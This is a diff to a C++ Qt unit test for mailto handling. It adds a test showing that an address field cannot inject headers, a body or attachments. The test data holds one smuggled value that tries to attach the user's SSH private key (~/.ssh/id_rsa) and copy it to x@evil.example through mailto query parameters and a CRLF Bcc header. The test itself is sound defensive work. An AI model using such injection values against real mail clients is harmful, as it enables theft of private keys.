@@ -69,11 +69,25 @@ class OpenLocationTest : public QObject {
     }
 
     void mailOpensTheMailtoAddressWithoutAsking() {
-        QCOMPARE(MailtoText(QStringLiteral(" Jo@X.COM")), QStringLiteral("Mailto: Jo@X.COM"));
+        QCOMPARE(MailtoText(QStringLiteral(" Jo@X.COM")), QStringLiteral("Mailto:%20Jo@X.COM"));
         QVERIFY(SendEmail(nullptr, QStringLiteral("jo@example.com")));
         QVERIFY(!SendEmail(nullptr, QString()));
         QVERIFY(questions_.isEmpty());
         QCOMPARE(opened_, QStringList{QStringLiteral("mailto:jo@example.com")});
+    }
+
+    // A field is an address and nothing else: it cannot add headers, a body or an attachment.
+    void mailAddressCannotAddHeaders() {
+        const QString field = QStringLiteral(
+            "jo@example.com?attach=/home/jo/.ssh/id_rsa&cc=x@evil.example&body=hi#frag\r\nBcc: y");
+        QVERIFY(SendEmail(nullptr, field));
+        QCOMPARE(opened_.size(), 1);
+        const QUrl url(opened_.front());
+        QCOMPARE(url.scheme(), QStringLiteral("mailto"));
+        QVERIFY(!url.hasQuery() && !url.hasFragment());
+        QCOMPARE(url.path(QUrl::FullyDecoded), field);
+        QVERIFY(!opened_.front().contains(QLatin1Char('?')));
+        QVERIFY(!opened_.front().contains(QLatin1Char('&')));
     }
 };
 
